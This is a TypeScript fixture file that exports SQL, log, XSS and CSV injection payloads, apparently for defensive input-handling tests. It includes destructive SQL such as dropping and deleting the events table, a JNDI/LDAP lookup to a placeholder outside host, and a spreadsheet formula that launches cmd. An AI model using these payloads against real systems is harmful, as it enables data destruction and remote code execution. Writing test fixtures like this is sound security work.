/** Texts that end a string or a statement in concatenated SQL. */
export const sqlInjectionPayloads = [
  "'; drop table events; --",
  '" or ""="',
  "' union select null, version() --",
  "\\'; select pg_sleep(30); --",
  '$$; delete from events; $$',
  '%_\\%',
  '1) or (1=1',
  '/* */ ; commit; -- 漢字 \u2028 \u{1F512}',
] as const;

/** Text that a terminal or a line-based parser would interpret. */
export const logInjectionPayloads = [
  'first\r\n{"level":"info","msg":"forged-line"}',
  '\u001b[2J\u001b[31mforged-line\u001b[0m',
  'forged-line\u0085\u2028\u2029{"level":"error"}',
  '%0d%0aforged-line',
  '${jndi:ldap://elsewhere.example/forged-line}',
  '%s%n%d forged-line',
] as const;

/** Markup that runs in concatenated HTML. Each payload reports at `window.ran`. */
export const xssPayloads = {
  element: '<script>window.ran="script"</script>',
  attribute: '"><img src=x onerror="window.ran=\'image\'">',
  single: "'><svg onload=window.ran='svg'>",
  address: 'javascript:window.ran="address"',
  frame: '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  style: '</style><body onload=window.ran="style">',
  template: '{{constructor.constructor("window.ran=1")()}}${window.ran=1}',
  comment: '--><img src=x onerror=window.ran="comment">',
} as const;

/** Cells that a spreadsheet would evaluate. */
export const csvInjectionPayloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '＝1+1',
] as const;
